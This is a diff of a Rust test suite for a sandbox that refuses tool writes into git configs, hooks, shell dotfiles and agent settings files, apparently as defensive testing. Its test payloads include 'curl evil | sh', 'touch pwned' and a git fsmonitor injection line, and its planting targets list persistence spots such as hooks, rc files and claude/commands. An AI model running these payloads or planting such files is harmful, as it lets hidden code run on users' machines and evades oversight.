@@ -171,7 +171,8 @@ fn writing_beneath(env: &Env, id: &str, root: &Path, dirs: &[&str], listed: &str
 }
 
 /// In both modes, under `personality`: each of `planted` beneath `base` is refused with a
-/// `PATH_NOT_REACHABLE` that says `why`, and not written; each of `fine` is written.
+/// `PATH_NOT_REACHABLE` that says `why`, and not written (one that existed is as it was, one
+/// that did not is still missing); each of `fine` is written.
 fn refuses_planting(
     env: &Env,
     personality: &str,
@@ -180,8 +181,12 @@ fn refuses_planting(
     fine: &[&str],
     why: &str,
 ) {
+    let before: Vec<Option<Vec<u8>>> = planted
+        .iter()
+        .map(|p| std::fs::read(base.join(p)).ok())
+        .collect();
     for mode in MODES {
-        for planted in planted {
+        for (planted, before) in planted.iter().zip(&before) {
             let path = base.join(planted).display().to_string();
             let result = write_file(env, mode, personality, &path, "curl evil | sh\n");
             assert!(
@@ -190,8 +195,9 @@ fn refuses_planting(
                 }),
                 "{mode:?} {planted}: {result}"
             );
-            assert!(
-                !std::path::Path::new(&path).exists(),
+            assert_eq!(
+                &std::fs::read(&path).ok(),
+                before,
                 "{mode:?}: {planted} was written"
             );
         }
@@ -1647,42 +1653,20 @@ fn a_tool_cannot_plant_in_a_git_configuration_another_one_includes() {
             o = out.display()
         ),
     );
-    let team = std::fs::read_to_string(out.join("team.gitconfig")).unwrap();
-    for mode in MODES {
-        for planted in [
+    refuses_planting(
+        &env,
+        &p,
+        &out,
+        &[
             "team.gitconfig",
             "local.gitconfig",
             "nested.cfg",
             "svc/shared.cfg",
             "team-hooks/pre-commit",
-        ] {
-            let path = out.join(planted).display().to_string();
-            let result = write_file(&env, mode, &p, &path, "[core]\n\tfsmonitor = touch pwned\n");
-            let error = result["error"].as_str().unwrap_or_default();
-            assert!(
-                error.starts_with("PATH_NOT_REACHABLE: write not permitted")
-                    && error.contains("git"),
-                "{mode:?} {planted}: {result}"
-            );
-        }
-        for fine in ["svc/main.rs", "notes.cfg"] {
-            let path = out.join(fine).display().to_string();
-            let result = write_file(&env, mode, &p, &path, "fine\n");
-            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
-        }
-    }
-    assert_eq!(
-        std::fs::read_to_string(out.join("team.gitconfig")).unwrap(),
-        team
+        ],
+        &["svc/main.rs", "notes.cfg"],
+        "git",
     );
-    for missing in [
-        "local.gitconfig",
-        "nested.cfg",
-        "svc/shared.cfg",
-        "team-hooks",
-    ] {
-        assert!(!out.join(missing).exists(), "{missing}");
-    }
 }
 
 // guarantee: G-FS-10
@@ -2319,42 +2303,26 @@ fn a_tool_cannot_plant_what_a_shell_or_an_agent_runs_through_its_dotfiles_links(
             h = home.display()
         ),
     );
-    for mode in MODES {
-        for planted in [
+    refuses_planting(
+        &env,
+        &plain,
+        &dots,
+        &[
             "bashrc",
             "profile",
             "git/config",
             "claude/settings.json",
             "claude/commands/deploy.md",
             "fish/config.fish",
-        ] {
-            let path = dots.join(planted).display().to_string();
-            let result = write_file(&env, mode, &plain, &path, "touch pwned\n");
-            let error = result["error"].as_str().unwrap_or_default();
-            assert!(
-                error.starts_with("PATH_NOT_REACHABLE: write not permitted")
-                    && error.contains(&home.display().to_string()),
-                "{mode:?} {planted}: {result}"
-            );
-        }
-        for fine in ["notes/todo.md", "README.md"] {
-            let path = dots.join(fine).display().to_string();
-            let result = write_file(&env, mode, &plain, &path, "fine\n");
-            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
-        }
+        ],
+        &["notes/todo.md", "README.md"],
+        "by another name",
+    );
+    for mode in MODES {
         let path = dots.join("bashrc").display().to_string();
         let result = write_file(&env, mode, &listed, &path, original);
         assert_eq!(result["ok"], true, "{mode:?} listed: {result}");
     }
-    for file in ["bashrc", "profile", "git/config", "claude/settings.json"] {
-        assert_eq!(
-            std::fs::read_to_string(dots.join(file)).unwrap(),
-            original,
-            "{file}"
-        );
-    }
-    assert!(!dots.join("claude/commands").exists());
-    assert!(!dots.join("fish/config.fish").exists());
 }
 
 // guarantee: G-FS-09
@@ -2386,37 +2354,19 @@ fn a_tool_cannot_plant_a_hook_in_a_git_directory_of_another_name() {
         "sep.toml",
         &format!("id = \"sep\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n"),
     );
-    let configs: Vec<(PathBuf, String)> = ["store/svc/config", "backup.git/config"]
-        .iter()
-        .map(|c| (out.join(c), std::fs::read_to_string(out.join(c)).unwrap()))
-        .collect();
-    for mode in MODES {
-        for planted in [
+    refuses_planting(
+        &env,
+        &p,
+        &out,
+        &[
             "store/svc/hooks/pre-commit",
             "store/svc/config",
             "store/svc/config.worktree",
             "backup.git/hooks/post-receive",
             "backup.git/config",
             "backup.git/commondir",
-        ] {
-            let path = out.join(planted).display().to_string();
-            let result = write_file(&env, mode, &p, &path, "#!/bin/sh\ntouch pwned\n");
-            let error = result["error"].as_str().unwrap_or_default();
-            assert!(
-                error.starts_with("PATH_NOT_REACHABLE: write not permitted")
-                    && error.contains("git"),
-                "{mode:?} {planted}: {result}"
-            );
-        }
-        for fine in ["svc/main.rs", "store/notes.md", "backup.git/README"] {
-            let path = out.join(fine).display().to_string();
-            let result = write_file(&env, mode, &p, &path, "fine\n");
-            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
-        }
-    }
-    for (config, text) in &configs {
-        assert_eq!(&std::fs::read_to_string(config).unwrap(), text);
-    }
-    assert!(!out.join("store/svc/hooks/pre-commit").exists());
-    assert!(!out.join("backup.git/hooks/post-receive").exists());
+        ],
+        &["svc/main.rs", "store/notes.md", "backup.git/README"],
+        "is a git directory",
+    );
 }
